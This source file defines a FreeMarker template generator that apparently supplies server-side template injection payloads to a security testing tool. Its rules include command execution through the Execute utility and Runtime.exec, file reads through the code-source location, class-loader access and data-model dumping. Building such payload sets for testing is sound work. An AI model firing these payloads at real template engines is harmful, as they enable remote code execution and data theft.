// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** FreeMarker: instances of its own utilities, and the object wrapper. */
export const freemarkerNew = templateGenerator({
  name: 'freemarker-new',
  engines: ['freemarker'],
  rules: {
    start: [
      '${l}"freemarker.template.utility.{utility}"?new()("{command}"){r}',
      '<#assign {letters:e}="freemarker.template.utility.{utility}"?new()>${l}{letters:e}("{command}"){r}',
      '[#assign {letters:e}="freemarker.template.utility.{utility}"?new()]${l}{letters:e}("{command}"){r}',
      '${l}product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("{file}").toURL().openStream().readAllBytes()?join(" "){r}',
      '<#assign cl={object}?api.class.protectionDomain.classLoader>',
      '<#include "{file}">',
      '<#import "{file}" as x>',
      '${l}{object}.class.forName("java.lang.Runtime").getRuntime().exec("{command}"){r}',
      '#{l}"freemarker.template.utility.{utility}"?new()("{command}"){r}',
      '<#list 1..{number} as x>${l}.data_model?keys?join(","){r}</#list>',
      '${l}.now?api.class{r}',
    ],
    utility: ['Execute', 'JythonRuntime', 'ObjectConstructor'],
    object: ['"x"', 'user', 'product', 'article', '.globals'],
  },
});
